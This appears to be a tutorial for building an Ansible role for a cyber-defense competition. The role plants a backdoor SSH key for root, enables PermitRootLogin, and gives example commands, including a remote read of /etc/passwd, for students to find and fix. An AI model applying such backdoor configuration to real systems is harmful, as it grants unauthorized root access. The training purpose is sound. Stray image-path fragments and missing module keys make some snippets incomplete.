NCAE Cyber Games infrastructure challenges are written as Ansible roles. The page Ansible Basics can be reviewed to gain a basic understand of the Ansible concepts used in this document.

Please contact NCAE Cyber with any questions regarding challenges at:

  • Email:
  • Discord:

This page assumes you have downloaded the infrastructure-examples Repository, and are performing development within the uncompressed directory structure. This repository contains an Ansible playbook, configuration file, and example Ansible roles to get started from. The repository can be downloaded as a .zip file by clicking the download icon, then the ZIP button, as shown below.

SSH Authorized Keys Example

This example will walk through creating a new Challenge named "SSH Authorized Keys", which is an example available in our Examples repository. This challenge will install the required dependencies, ensure the required directories and files exist, ensure a configuration file is set correctly, and copy in a malicious authorized key.

Creating a new role

A new role can be created by copying the directory roles/template/ to a new name within roles/. The directory name will define the name of the role.

cp -r roles/template roles/ssh_authorized_keys

Adding the Role to the Playbook

The first time a new Role is executed, it must be added to the Ansible playbook being executed. The included playbook, playbook.yml, can be modified for this purpose. We recommend removing or commenting the example roles from this file, and adding only the role currently under development.

In this example, we’ll remove all other roles, and add our new ssh_authorized_keys role. The fileshould look like this:

- hosts: all
  user: ansible
  become: yes
  become_method: sudo
    # Include ansible configuration from separate file
    - config.yml
    - include_role:
        name:ssh_authorized_keys

Writing the Challenge

Adding Tasks

The first step to creating a new role is to add some tasks to the tasks/main.yml file. We’ll start by adding some tasks to ensure OpenSSH server is installed, and the authorized keys files exist.

# roles/ssh_authorized_keys/tasks/main.yml
# Install ssh package
- name: Install OpenSSH server
    name: "openssh-server"
    state: present- name: Root SSH directory exists with correct permissions
    path: /root/.ssh
    owner: root
    mode: 0700
    state: directory

- name: Root Authorized Keys file exists with correct permissions
    path: /root/.ssh/authorized_keys
    owner: root
    mode: 0600
    state: touch

Adding Variables

Ansible has several places that variables can be defined. To ensure the default SSH key can be overwritten with a new SSH key appropriate for the environment, we can set the value in defaults/main.yml.

# roles/ssh_authorized_keys/defaults/main.yml
# Default variables to be used under ../tasks if not populated elsewhere
malicious_public_key: "/QtGyyT20wvUKlaOjeBnOTSp8+ieI2QD4a8H4hBY3NqR/KHo7axPai773Ex89noAGHHFBs5fbW1fdT

Then, we can add a task to tasks/main.yml that uses the key using the Jinja templating syntax, {{ variable_name }}.

# roles/ssh_authorized_keys/tasks/main.yml
# Add our public key to roots authorized_keys file, if it is not already there
- name: Set Root Authorized Key
    path: /root/.ssh/authorized_keys
    line: "{{ malicious_public_key }}"

Testing the Role

When the role is ready for testing, it can be executing using the playbook.yml file [set up above](#Adding the Role to the Playbook).

The ansible-playbook command is used to execute the playbook. The IP Addresses should be replaced to match the test systems in your environment.

All challenges should be tested against at least one Debian/Ubuntu based system, and one CentOS-based system.

NOTE: If testing against only a single host, a trailing comma must be used.

ansible-playbook -i, playbook.yml# Single host example
ansible-playbook -i, playbook.yml

Refining the Role

After testing, our playbook executed successfully first try – wow! Unfortunately, after some testing, we discover that we can’t use our new key to authenticate as root. After some digging around, we discover the following line in /etc/ssh/sshd_config:

PermitRootLogin no

Doh! Easy fix, we’ll just add the following task to our tasks/main.yml file:

# roles/ssh_authorized_keys/tasks/main.yml
# Edit sshd_config to allow for remote ssh root login
- name: Allow Root Login
    path: /etc/ssh/sshd_config
    regexp: '^#?PermitRootLogin.*'
    line: "PermitRootLogin yes"
    - Restart SSH

We know that changing the sshd_config file requires a service restart. For this task, we define a new handler in handlers/main.yml, and use the notify keyword to let Ansible know that SSH needs restarted if that file is changed.

# Restart SSH service. Let ansible decide on the mechanism: systemd, services etc.
- name: Restart SSH
      name: sshd
      state: restarted

NOTE: The handler will only trigger if the sshd_config file is changed. If a file change is not required, the service will not be restarted.

Re-testing the RoleWhen a role is re-tested, the test VMs should be rolled back to a clean snapshot before testing. Once the VM has been rolled back to a clean snapshot, run the role again using the same ansible-playbook command.

ansible-playbook -i, playbook.yml

This time, we test with ssh -i path/to/bad_key root@IP and both hosts work correctly!

Completing the C2 Games Metadata File

Now that the Ansible role is complete, we just need to fill out the template c2games.yml Metadata file. See the Infrastructure Challenge Submissions page for more information on each field within this file. Here is an example for ssh_authorized_keys.

Any questions about this file should be sent to the support email or asked in the Discord linked above.

# roles/ssh_authorized_keys/c2games.yml
Title: 'Malicious Authorized Keys'
Version: 1.0
Author: 'Brodie Davis'Organization: 'C2 Games'

Type: 'Misconfiguration'

Difficulty: 4

Description: >
  Installs malicious SSH keys on the system for remote access to the root user

  - Family: Linux
    Name: Ubuntu
    Version: 18.04
  - Family: Linux
    Name: CentOSVersion: 7

  - Example: ssh -i malicious_key root@
    Description: >
      SSH As root into the System to escalate privileges
  - Example: ssh -i malicious_key user@cat /etc/passwd
    Description: >
      SSH as a normal user into the system and run a single command
      to achieve remote code execution without a persistent session

Mitigation: >
  Remove the Malicious SSH Keys.

Training: >
  An exercise explaining SSH keys, and their ability to provide remote access
  into to a system. The exercise should also review the SSHD service
  configuration file, and options that may be used to secure the SSHD service.

Justification:>
  This challenge covers theskills required to configure and
  secure an OpenSSH service. The student must demonstrate that they
  can identify invalid or insecure configurations within an existing
  environment, andreconfigure the service to afunctional and secure state.